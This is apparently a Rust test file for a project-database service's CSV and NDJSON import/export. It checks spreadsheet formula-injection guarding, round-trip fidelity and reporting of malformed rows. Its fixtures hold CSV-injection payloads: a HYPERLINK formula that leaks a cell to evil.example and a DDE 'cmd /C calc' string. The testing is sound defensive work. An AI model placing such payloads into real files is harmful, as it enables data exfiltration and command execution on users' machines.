//! Files in and out (issue 15): no CSV cell runs as a formula in a spreadsheet yet our own
//! round trip is exact; a quote left open cannot swallow rows unreported; NDJSON with a
//! byte-order mark, any line end, and a bad UTF-8 line.

use axum::body::Body;
use axum::http::{Request, StatusCode};
use serde_json::{json, Value};

use crate::helpers::{bearer, import_with_report, outside_async, run_cli, submission, TestApp};

/// Cells of a spreadsheet's nightmare, one per text field.
fn formula_project() -> Value {
    let mut body = submission(1);
    body["title"] = json!("=HYPERLINK(\"http://evil.example/?\"&O2,\"Open the report\")");
    body["organization"] = json!("+Org of pluses");
    body["description"] = json!("-5 degrees and @mentions\n=1+1 on a second line");
    body["contact"] = json!({"name": "@admin", "email": "secret.contact@example.org"});
    body
}

/// Every cell of a CSV text, parsed.
fn cells(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn assert_no_formula(text: &str, what: &str) {
    for row in cells(text) {
        for cell in row {
            let first = cell.chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                "{what}: a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_csv_we_write_holds_a_formula_and_our_own_import_restores_every_value() {
    let app = TestApp::empty();
    let key = app.key("desk");
    let (id, _) = app.submit(&formula_project()).await;
    let published = app.publish_indexed(&id, &key).await;
    assert_eq!(published.status, StatusCode::OK);
    let selection = app
        .create_selection(
            &key,
            &json!({"kind": "talkx", "title": "Session", "published": true,
                     "items": [{"project_id": id, "note": "=cmd|' /C calc'!A0"}]}),
        )
        .await;
    let sel = selection.id();
    let public = app.get("/api/v1/export?format=csv").await;
    let private = app.export(&key, "?format=csv&bom=true").await;
    let chosen = app
        .get(&format!("/api/v1/selections/{sel}/export?format=csv"))
        .await;
    for (what, r) in [
        ("public export", &public),
        ("secretariat export", &private),
        ("selection", &chosen),
    ] {
        assert_eq!(r.status, StatusCode::OK, "{what}");
        let text = r.body.as_str().unwrap();
        assert_no_formula(text, what);
        assert!(
            text.contains("'=HYPERLINK("),
            "{what}: the title is shown, guarded"
        );
    }
    let private = private.text().to_string();
    assert!(private.contains("'@admin"));

    // Our CSV imports back to the very same values, into another store.
    let other = TestApp::empty();
    let report = other
        .send(
            Request::post("/api/v1/import?format=csv&publish=true")
                .header("authorization", bearer(&other.key("desk")))
                .body(Body::from(private))
                .unwrap(),
        )
        .await;
    assert_eq!(report.body["created"], 1, "{}", report.body);
    outside_async(|| other.service.commit_index().unwrap());
    let back = other.export(&other.key("d2"), "?format=json").await;
    let back = back.body;
    let original = formula_project();
    for field in ["title", "organization", "description"] {
        assert_eq!(back[0][field], original[field], "{field}");
    }
    assert_eq!(back[0]["contact"], original["contact"]);
}

#[test]
fn the_report_and_the_import_report_guard_their_cells_too() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let file = dir.path().join("in.csv");
    std::fs::write(&file, "title,=HYPERLINK(\"http://x\"),-cmd\nA title,1,2\n").unwrap();
    let report = dir.path().join("report.csv");
    let (code, stderr) = import_with_report(&data, &file, &report);
    assert_eq!(code, 1, "{stderr}");
    let text = std::fs::read_to_string(&report).unwrap();
    assert!(text.contains("'=HYPERLINK"), "{text}");
    assert_no_formula(&text, "import report");
    let (code, out, err) = run_cli(&data, &["report", "--format", "csv"]);
    assert_eq!(code, 0, "{err}");
    assert_no_formula(&out, "report");
}

async fn import(app: &TestApp, key: &str, format: &str, body: Vec<u8>) -> Value {
    let r = app
        .send(
            Request::post(format!("/api/v1/import?format={format}&dry_run=true"))
                .header("authorization", bearer(key))
                .body(Body::from(body))
                .unwrap(),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    r.body
}

#[tokio::test(flavor = "multi_thread")]
async fn a_quote_left_open_cannot_swallow_rows_unreported() {
    let app = TestApp::empty();
    let header = "source_id,title,description,organization,stakeholder_type,scope,countries,action_lines,sdgs,status,start_date";
    let row = |n: usize, title: &str| {
        format!(
            "r{n},{title},Solar kiosks.,Org {n},civil_society,national,KE,C2,9,ongoing,2020-01-01"
        )
    };
    let text = format!(
        "{header}\n{}\n{}\n{}\n{}\n",
        row(1, "First kiosks"),
        row(2, "\"Second kiosks"),
        row(3, "Third kiosks"),
        row(4, "Fourth kiosks"),
    );
    let key = app.key("desk");
    let report = import(&app, &key, "csv", text.into_bytes()).await;
    // Five physical lines; the open quote makes one record of lines 3 to 5 that runs to the
    // end of the file: refused, named with its lines, so nothing disappears unreported.
    assert_eq!(report["lines"], 5, "{report}");
    assert_eq!(report["read"], 2, "{report}");
    assert_eq!(report["created"], 1, "{report}");
    assert_eq!(report["rejected_rows"], 1, "{report}");
    let problem = &report["rejected"][0];
    assert_eq!(problem["line"], 3);
    assert_eq!(problem["last_line"], 5);
    assert_eq!(problem["code"], "unterminated_quote");
    assert!(
        problem["message"].as_str().unwrap().contains("lines 4–5"),
        "{problem}"
    );
    // A quote that another quote closes further on: the title holds a line break, refused
    // with the lines the record spans.
    let text = format!(
        "{header}\n{}\n{}\n{}\n",
        row(1, "\"First\nkiosks\""),
        row(2, "Second kiosks"),
        row(3, "Third kiosks"),
    );
    let report = import(&app, &key, "csv", text.into_bytes()).await;
    assert_eq!(
        (report["lines"].as_u64(), report["read"].as_u64()),
        (Some(5), Some(3))
    );
    let problem = &report["rejected"][0];
    assert_eq!(
        (problem["line"].as_u64(), problem["last_line"].as_u64()),
        (Some(2), Some(3))
    );
    assert_eq!(problem["field"], "title");
    assert_eq!(problem["code"], "line_break");
    assert!(
        problem["message"].as_str().unwrap().contains("lines 2–3"),
        "{problem}"
    );
    // A quoted line break in a description is fine and spans its lines.
    let fine = format!(
        "{header}\nr9,Kiosks,\"Two\nlines\",Org,civil_society,national,KE,C2,9,ongoing,2020-01-01\n"
    );
    let report = import(&app, &key, "csv", fine.into_bytes()).await;
    assert_eq!(
        (report["lines"].as_u64(), report["created"].as_u64()),
        (Some(3), Some(1))
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn ndjson_takes_a_byte_order_mark_any_line_end_and_skips_only_a_bad_utf8_line() {
    let app = TestApp::empty();
    let record = |n: usize| {
        crate::helpers::import_record(&format!("n{n}"), &format!("Record {n}"), "Text.").to_string()
    };
    let mut body = b"\xEF\xBB\xBF".to_vec();
    body.extend(record(1).as_bytes());
    body.extend(b"\r");
    body.extend(record(2).as_bytes());
    body.extend(b"\r\n");
    body.extend(record(3).replace("Record 3", "Record \u{e9}3").as_bytes());
    let bad_at = body.len() - 10;
    body[bad_at] = 0xFF;
    body.extend(b"\n");
    body.extend(record(4).as_bytes());
    let report = import(&app, &app.key("desk"), "ndjson", body).await;
    assert_eq!(report["lines"], 4, "{report}");
    assert_eq!(report["created"], 3, "{report}");
    assert_eq!(report["rejected_rows"], 1, "{report}");
    assert_eq!(report["rejected"][0]["line"], 3);
    assert_eq!(report["rejected"][0]["code"], "invalid_utf8");
}
